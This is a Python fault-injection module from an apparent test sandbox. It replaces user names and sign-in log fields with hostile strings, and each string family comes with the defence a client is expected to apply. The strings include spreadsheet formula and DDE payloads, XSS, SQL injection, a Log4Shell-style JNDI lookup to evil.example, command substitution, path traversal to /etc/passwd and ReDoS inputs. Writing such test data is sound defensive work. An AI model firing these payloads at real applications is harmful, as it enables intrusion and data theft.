"""L: hostile names. Anybody who may set a name can attack, and a failed sign-in needs no account at all."""

from __future__ import annotations

from typing import Final

from seatkeeper.sandbox.faults.fault import FAULTS, Call, Fault, Reply, Shape, fault, key
from seatkeeper.sandbox.world.dice import number

_MEGABYTE: Final = 1_000_000
# id, fault, what the names are, what a client must do, the names. Each name is put where a person can put one.
_KINDS: Final[tuple[tuple[str, str, str, str, tuple[str, ...]], ...]] = (
    ("L1", "formula-names", "names that a spreadsheet would run", "quote them in CSV, force text in XLSX",
     ('=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1', " =1+1",
      "\uff1d1+1", "=cmd|' /C calc'!A0")),
    ("L2", "script-names", "names that a page would run", "show text as text everywhere",
     ("<script>alert(1)</script>", '"><svg onload=alert(1)>', "javascript:alert(1)", "</script><script>alert(1)",
      "\u2028alert(1)", "' onmouseover='alert(1)", "<!--", "]]>")),
    ("L3", "bidi-names", "names that read backwards, hide letters or look like another's",
     "isolate them, search them normalised, store them as they are",
     ("\u202egnp.exe\u202c", "A\u200bda M\u200doe", "\u0410da Moe", "Z" + "\u0351" * 200, "\u2066Ada\u2069")),
    ("L4", "odd-unicode-names", "names with NUL, half characters, emoji in parts, composed and decomposed letters",
     "lose nothing or put the row aside; the same on every database",
     ("Ada\x00Moe", "Ada\ufffeMoe", "👩‍👩‍👧‍👦🏳️‍🌈", "Zoe\u0308", "Zoë", "İstanbul ß ſ", "\ufeffAda")),
    ("L5", "long-name", "a name of a million letters", "state a limit, cut nothing in silence", ("x" * _MEGABYTE,)),
    ("L6", "control-character-names", "names with control characters that XLSX cannot hold",
     "clean them for XLSX, and export everybody", ("Ada\x0bMoe", "Ada\x01", "\x7fAda", "Ada\x1b", "Ada\x85Moe")),
    ("L7", "sql-names", "names that a careless query would run or match too much",
     "bind parameters, escape patterns", ("'; DROP TABLE users;--", "%", "_", "' OR '1'='1", "$.*", "a\\", "100%_")),
    ("L8", "ansi-names", "names with line ends and terminal escapes", "escape them in logs, strip them on a terminal",
     ("Ada\r\nINFO forged=1", "\x1b[2J\x1b[1;1Hgone", "\x1b]0;title\x07", "Ada\nMoe", "\x9b31mred")),
    ("L9", "template-names", "names in the syntax of templates and formats", "use none as a format",
     ("{{7*7}}", "${jndi:ldap://evil.example}", "%s%n", "{0.__class__}", "#{7*7}", "<%= 7*7 %>", "`id`", "$(id)")),
    ("L10", "path-names", "names that would be dangerous as file names", "make file names of its own",
     ("../../etc/passwd", "CON", "a" * 300, "/etc/passwd", "..\\..\\x", "a/b", "nul.txt", ".", "x\x00.csv")),
    ("L11", "slow-regex-names", "names that make careless patterns run for ever", "match in linear time",
     ("a@" * 25_000, "a" * 50_000 + "!", " " * 50_000 + "x")),
)  # fmt: skip


def _enter(kind: tuple[str, str, str, str, tuple[str, ...]]) -> None:
    ids, name, does, must, values = kind

    def change(call: Call, reply: Reply) -> None:
        shape = reply.shape()
        for row in call.picked(shape["value"]):
            _rename(row, values[number(call.seed, "value", key(row)) % len(values)])
        reply.put(shape)

    FAULTS[name] = Fault((ids,), f"one account in ten has {does}", must, on="list", where="all", change=change)


def _rename(row: Shape, value: str) -> None:
    for name in ("displayName", "givenName", "surname", "userDisplayName", "jobTitle", "department"):
        if name in row:
            row[name] = value
    for name in ("userPrincipalName", "mail"):
        if isinstance(row.get(name), str):
            row[name] = value[:300] + row[name] if len(value) < _MEGABYTE else row[name]


for _kind in _KINDS:
    _enter(_kind)


@fault("L12", "hostile-log", "user agents, applications, cities and devices of one sign-in in ten are attacks",
       "treat them like names: they come without any account", on="log", where="all")  # fmt: skip
def _hostile_log(call: Call, reply: Reply) -> None:
    words = [value for _, name, _, _, values in _KINDS if name != "long-name" for value in values]
    shape = reply.shape()
    for row in shape["value"]:
        luck = number(call.seed, "log", str(row.get("id")))
        if luck % 10:
            continue
        for place, name in enumerate(("userAgent", "appDisplayName", "resourceDisplayName", "clientAppUsed")):
            if name in row:
                row[name] = words[(luck + place) % len(words)]
        if isinstance(row.get("location"), dict):
            row["location"]["city"] = words[luck // 10 % len(words)]
        if isinstance(row.get("deviceDetail"), dict):
            row["deviceDetail"]["displayName"] = words[luck // 100 % len(words)]
    reply.put(shape)
